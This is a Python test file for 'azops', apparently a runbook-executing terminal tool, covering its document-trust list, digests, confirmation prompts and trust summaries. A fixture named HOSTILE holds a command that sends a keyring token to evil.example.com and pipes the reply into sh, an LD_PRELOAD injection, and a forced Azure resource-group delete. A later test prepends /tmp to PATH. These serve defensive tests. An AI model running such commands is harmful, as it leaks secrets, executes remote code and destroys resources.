"""Documents are trusted by their content: azops trust, its list, and what is trusted without a question."""

from __future__ import annotations

import asyncio
import stat
from pathlib import Path

import pytest

from azops_tui import paths
from azops_tui.azure.profiles import Profile
from azops_tui.engine.open import open_runbook
from azops_tui.engine.run import Policy, Run
from azops_tui.engine.trust import document_digest, is_trusted, trust
from azops_tui.engine.trust_summary import trust_lines
from azops_tui.events import records as ev
from azops_tui.journal.store import Journal
from azops_tui.ui.app import AzopsApp
from azops_tui.ui.live import LiveController
from azops_tui.ui.screens.dialogs import Dialog
from tests.cli.azops import RUNBOOKS, azops
from tests.ui.test_main import ready, until


def _is_trusted(path: Path) -> bool:
    return is_trusted(path, document_digest(open_runbook(path).text))


def test_trust_ends_when_the_document_changes(tmp_path: Path) -> None:
    document = tmp_path / "a.md"
    document.write_text("# A\n\n```bash\necho 1\n```\n")
    assert not _is_trusted(document)
    done = azops("trust", document)
    assert (done.returncode, done.stderr) == (0, "")
    assert _is_trusted(document)
    assert str(document) in azops("trust", "--list").stdout
    document.write_text("# A\n\n```bash\necho 2\n```\n")
    assert not _is_trusted(document)


def test_runbooks_that_ship_are_trusted() -> None:
    assert all(_is_trusted(path) for path in RUNBOOKS.glob("*.md"))
    assert not (paths.state() / "trusted.jsonl").exists()


def test_only_the_user_reads_the_list_and_a_damaged_line_is_left_out(tmp_path: Path) -> None:
    trust(tmp_path / "x.md", "1" * 64)
    file = paths.state() / "trusted.jsonl"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    with file.open("a") as lines:
        lines.write("{\n")
    trust(tmp_path / "y.md", "2" * 64)
    assert is_trusted(tmp_path / "z.md", "1" * 64)
    assert is_trusted(tmp_path / "z.md", "2" * 64)


def test_trust_needs_a_document_or_the_list(tmp_path: Path) -> None:
    assert azops("trust").returncode == 2
    missing = azops("trust", tmp_path / "missing.md")
    assert missing.returncode == 3
    assert "does not exist" in missing.stderr


HOSTILE = """---
azops:
  params:
    LD_PRELOAD: /tmp/x.so
    NAME: demo
    TOKEN: {type: secret, from: keyring}
---
# Helpful

```bash {name=one}
kubectl get pods; curl -s https://evil.example.com/x?$TOKEN | sh
```

```bash {name=two ssh=web1}
az group delete -n $NAME --yes
```
"""


def test_what_a_document_would_do_is_told(tmp_path: Path) -> None:
    document = tmp_path / "a.md"
    document.write_text(HOSTILE)
    text = "\n".join(trust_lines([open_runbook(document)]))
    assert "2 steps" in text
    assert "delete" in text
    for words in ("kubectl", "az", "evil.example.com", "web1", "LD_PRELOAD", "NAME", "TOKEN (keyring)"):
        assert words in text, text


@pytest.mark.untrusted
async def test_the_engine_asks_once_before_the_first_step_and_a_no_runs_nothing(tmp_path: Path) -> None:
    document = tmp_path / "a.md"
    document.write_text(f"# A\n\n```bash {{name=one}}\ntouch {tmp_path}/ran\n```\n\n```bash {{name=two}}\ntrue\n```\n")
    with Journal(tmp_path / "journal.db") as journal:
        for accepted in (False, True):
            run = Run(open_runbook(document), journal=journal, policy=Policy(interactive=True, yes=True))
            asked: list[ev.ConfirmationAsked] = []

            def answer(
                record: ev.Record, run: Run = run, asked: list[ev.ConfirmationAsked] = asked, yes: bool = accepted
            ) -> None:
                if isinstance(record.event, ev.ConfirmationAsked):
                    asked.append(record.event)
                    asyncio.get_running_loop().call_soon(run.answer, record.event.id, yes)

            run.subscribe(answer)
            await run.run_all()
            await run.close()
            assert [event.kind for event in asked if event.kind == "trust"] == ["trust"]
            assert (tmp_path / "ran").exists() == accepted
        again = Run(open_runbook(document), journal=journal, policy=Policy(interactive=True, yes=True))
        await again.run_all()
        await again.close()
        assert again.state.verdict == "done"


@pytest.mark.untrusted
async def test_the_screen_asks_one_question_about_all_that_a_document_leaves_open(tmp_path: Path) -> None:
    document = tmp_path / "a.md"
    document.write_text("# A\n\n```bash {name=one}\necho one\n```\n\n```\necho guessed\n```\n")
    profile = Profile(name="local", cloud="local")
    controller = LiveController(document, profile=profile, parameters={}, journal_path=tmp_path / "journal.db")
    async with AzopsApp(controller).run_test(size=(100, 40)) as pilot:
        screen = await ready(pilot)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(pilot.app.screen, Dialog))
        shown = "\n".join(pilot.app.screen.ask.lines)  # type: ignore[attr-defined]
        assert "2 steps" in shown
        assert "They run as bash." in shown
        await pilot.click("#agree")
        await until(pilot, lambda: controller.view.count("done") == 2, 60)
        assert pilot.app.screen is screen
        assert controller.writing is not None
        await controller.writing.edit(controller.writing.text.replace("echo one", "echo mine"), controller.writing.text)
        is_trusted_after_own_edit = not controller.untrusted
        await controller.writing.save()
        document.write_text(document.read_text().replace("echo mine", "echo theirs"))
        await controller.writing.look()
        assert (is_trusted_after_own_edit, controller.untrusted) == (True, True)
        await pilot.press("escape")
    assert controller.view.verdict != "failed"


def test_files_from_outside_the_folder_and_the_repository_are_named(tmp_path: Path) -> None:
    folder = tmp_path / "repository" / "docs"
    folder.mkdir(parents=True)
    (tmp_path / "elsewhere.md").write_text("# B\n\n```bash {name=b}\necho from elsewhere\n```\n")
    (folder / "a.md").write_text(
        "# A\n\n## Prerequisites\n\n- [B](../../elsewhere.md)\n\n## Do\n\n```bash\necho a\n```\n"
    )
    refused = azops("run", folder / "a.md")
    assert (refused.returncode, "elsewhere.md" in refused.stderr) == (4, True), refused.stderr
    assert "from elsewhere" in azops("run", folder / "a.md", "--yes").stdout
    (tmp_path / "repository" / ".git").mkdir()
    (tmp_path / "repository" / "elsewhere.md").write_text((tmp_path / "elsewhere.md").read_text())
    text = (folder / "a.md").read_text()
    (folder / "a.md").write_text(text.replace("../../", "../"))
    assert azops("run", folder / "a.md").returncode == 0


async def test_what_is_written_in_azops_is_trusted(tmp_path: Path) -> None:
    assert azops("new", "mine", cwd=tmp_path).returncode == 0
    assert _is_trusted(tmp_path / "mine.md")


def test_all_variables_that_a_document_sets_are_named(tmp_path: Path) -> None:
    path = tmp_path / "doc.md"
    code = 'export PATH=/tmp:$PATH\nNAME="vm$SIZE"\nfor part in a b; do read -r LINE; done'
    path.write_text(f"---\nparameters:\n  SIZE: {{default: small}}\n---\n# D\n\n```bash {{env=MODE=x}}\n{code}\n```\n")
    lines = trust_lines([open_runbook(path)])
    assert "Variables that change how commands run: PATH" in lines
    assert "Variables: LINE, MODE, NAME, part" in lines
